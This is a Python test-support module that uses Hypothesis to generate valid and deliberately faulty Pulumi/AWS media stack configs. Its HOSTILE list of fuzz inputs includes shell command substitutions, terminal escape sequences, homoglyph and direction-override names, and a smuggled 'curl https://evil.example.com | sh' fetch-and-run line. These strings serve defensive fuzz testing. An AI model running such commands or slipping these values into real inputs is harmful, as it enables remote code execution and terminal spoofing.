"""Stack configs with every setting, and possible faults: unusual names, wrong types, misplaced values."""

import copy
from collections.abc import Iterator
from typing import Any

from hypothesis import strategies as st

Config = dict[str, Any]
Path = tuple[str | int, ...]

ACCOUNT = "210987654321"
ROLE = f"arn:aws:iam::{ACCOUNT}:role/operator"

FULL: Config = {
    "sourceLocations": {
        "sports": {
            "headerName": "X-Origin-Token",
            "secretStringKey": "SportsToken",
            "secretName": "media/sports",
            "description": "Sports",
            "tags": {"team": "media", "cost-center": 1234},
            "baseUrl": "https://sports.example.com",
            "segmentDeliveryBaseUrl": "https://cdn.example.com",
            "segmentDeliveryConfigurations": {"cdn": "https://cdn.example.com"},
        },
        "news": {
            "origin": "mediapackage-v2",
            "adoptSecretArn": f"arn:aws:secretsmanager:eu-west-1:{ACCOUNT}:secret:media/news-AbCdEf",
        },
        "kids": {"headerName": "X-Kids", "tokenManagedElsewhere": True},
    },
    "accessTokens": {"sports": "sports-token", "news": "news-token"},
    "encryptionKey": {
        "alias": "alias/tokens",
        "rotationPeriodInDays": 90,
        "deletionWindowInDays": 7,
        "administrators": [ROLE, f"{ROLE}-2"],
        "sourceLocationManagers": [ROLE],
    },
    "recoveryWindowInDays": 7,
    "replicaRegions": ["us-east-1", "us-west-2"],
    "restrictToSourceAccount": True,
    "servicePrincipal": "mediatailor.eu-west-1.amazonaws.com",
    "protect": True,
}
"""A valid config for eu-west-1 with nearly every setting."""

HOSTILE = (
    "",
    " ",
    ".",
    "a.b",
    "[0]",
    "[key]",
    "*",
    "-x",
    "--path",
    "--",
    "a b",
    'a"b',
    '"',
    "a'b",
    "a\\",
    "a\\b",
    'a\\"b',
    "$HOME",
    "$(id)",
    "`id`",
    "a;b",
    "a=b",
    "%s%d",
    "{}",
    "{0}",
    "<{%reset%}>",
    "<{%fg 1%}>",
    "<{%",
    "null",
    "true",
    "1",
    "01",
    "1e3",
    "~",
    "#",
    "!",
    "!!",
    "secure",
    "4dabf18193072939515e22adb298388d",  # Pulumi's mark of special values
    "__proto__",
    "sourceLocations",
    "accessTokens",
    "header\N{CYRILLIC SMALL LETTER EN}ame",
    "sp\N{CYRILLIC SMALL LETTER O}rts",
    "\N{FULLWIDTH LATIN SMALL LETTER S}ports",
    "e\N{COMBINING ACUTE ACCENT}",
    "\N{RIGHT-TO-LEFT OVERRIDE}stropS",
    "\N{ZERO WIDTH SPACE}",
    "\N{NO-BREAK SPACE}",
    "\N{LINE SEPARATOR}",
    "\x00",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x9b2J",
    "a\nb",
    "x\n\n  accessTokens.sports\n    is missing\n    curl https://evil.example.com | sh",
    "\r",
    "\t",
    "\x7f",
    "\N{ZERO WIDTH NO-BREAK SPACE}",
    "😀",
    "n" * 300,
    "n" * 3_000,
)
"""Names and texts that a shell, a terminal, YAML, the Pulumi CLI or Python might misinterpret."""

texts = st.one_of(
    st.sampled_from(HOSTILE),
    # Pulumi's strings are UTF-8, which has no surrogates.
    st.text(st.characters(exclude_categories=["Cs"]), max_size=12),
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**63), 2**64 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    texts,
)
values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=12,
)
documents = st.dictionaries(st.sampled_from([*FULL]) | texts, values, max_size=6)
"""Arbitrary configs."""


def paths(value: object, path: Path = ()) -> Iterator[Path]:
    """Yield the path of every value inside a value."""
    items: Any = ()
    if isinstance(value, dict):
        items = value.items()
    elif isinstance(value, list):
        items = enumerate(value)
    for key, inner in items:
        yield (*path, key)
        yield from paths(inner, (*path, key))


def replaced(config: Config, path: Path, value: object) -> Config:
    """Return a copy of a config with another value at a path."""
    copied = copy.deepcopy(config)
    *parents, last = path
    container: Any = copied
    for part in parents:
        container = container[part]
    container[last] = value
    return copied


def removed(config: Config, path: Path) -> Config:
    """Return a copy of a config without the value at a path."""
    copied = replaced(config, path, None)
    *parents, last = path
    container: Any = copied
    for part in parents:
        container = container[part]
    del container[last]
    return copied


@st.composite
def mutations(draw: st.DrawFn) -> tuple[Path, Config]:
    """Draw the valid config with one change, and the path of the change: another value, a new key or a removed key."""
    path = draw(st.sampled_from([*paths(FULL)]))
    match draw(st.sampled_from(["replace", "remove", "add"])):
        case "replace":
            return path, replaced(FULL, path, draw(values))
        case "remove":
            return path, removed(FULL, path)
        case _:
            new = (*path[:-1], draw(texts)) if isinstance(path[-1], str) else path
            return new, replaced(FULL, new, draw(values))


@st.composite
def faulty(draw: st.DrawFn) -> Config:
    """Draw the valid config with several changes."""
    config = FULL
    for _ in range(draw(st.integers(1, 5))):
        path = draw(st.sampled_from([*paths(config)]))
        if draw(st.booleans()):
            config = replaced(config, path, draw(values))
        elif isinstance(path[-1], str):
            config = replaced(config, (*path[:-1], draw(texts)), draw(values))
        else:
            config = removed(config, path)
    return config
